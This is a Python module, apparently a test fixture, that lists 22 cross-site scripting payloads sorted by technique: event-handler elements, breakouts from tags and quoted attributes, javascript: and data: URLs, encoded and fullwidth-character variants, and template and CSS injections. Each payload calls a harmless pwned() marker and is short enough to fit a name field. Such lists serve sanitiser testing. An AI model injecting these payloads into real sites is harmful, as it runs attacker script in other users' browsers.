"""Words that would run as a script where a page, a style or an address let them, by how they try.

Each calls `pwned()`, and fits into a name.
"""

from typing import Final

WORDS: Final = {
    "an element that runs": "<script>pwned()</script>",
    "an element that fails": "<img src=x onerror=pwned()>",
    "an element that loads": "<svg onload=pwned()><!--",
    "an element that opens": "<details open ontoggle=pwned()>",
    "a frame": "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "out of a title": "</title></textarea></style><img src=x onerror=pwned()>",
    "out of a script": "</script><script>pwned()</script>",
    "out of a comment": "--><img src=x onerror=pwned()><!--",
    "out of double quotes": '" autofocus onfocus="pwned()" tabindex="0',
    "out of single quotes": "' autofocus onfocus='pwned()' tabindex='0",
    "out of an attribute into an element": '"><img src=x onerror=pwned()>',
    "an address that runs": "javascript:pwned()//",
    "an address that runs, in disguise": "JaVaScRiPt:pwned()//",
    "an address that is a page": "data:text/html,<script>opener.pwned()</script>",
    "a string's end": "';pwned();//\";pwned();//`;pwned();//",
    "escaped once": "&lt;img src=x onerror=pwned()&gt;",
    "escaped for an address": "%3Cimg%20src%3Dx%20onerror%3Dpwned()%3E",
    "escaped for JSON": r"\u003cimg src=x onerror=pwned()\u003e",
    "letters that become angles": "\uff1cimg src=x onerror=pwned()\uff1e",
    "what parsers repair": "<noscript><p title='</noscript><img src=x onerror=pwned()>",
    "a template": "{{pwned()}}${pwned()}{@html pwned()}<%=pwned()%>",
    "a style": "x}*{background:url(javascript:pwned())}</style>",
}
NAME_CHARACTERS_MAX: Final = 60
assert max(map(len, WORDS.values())) <= NAME_CHARACTERS_MAX
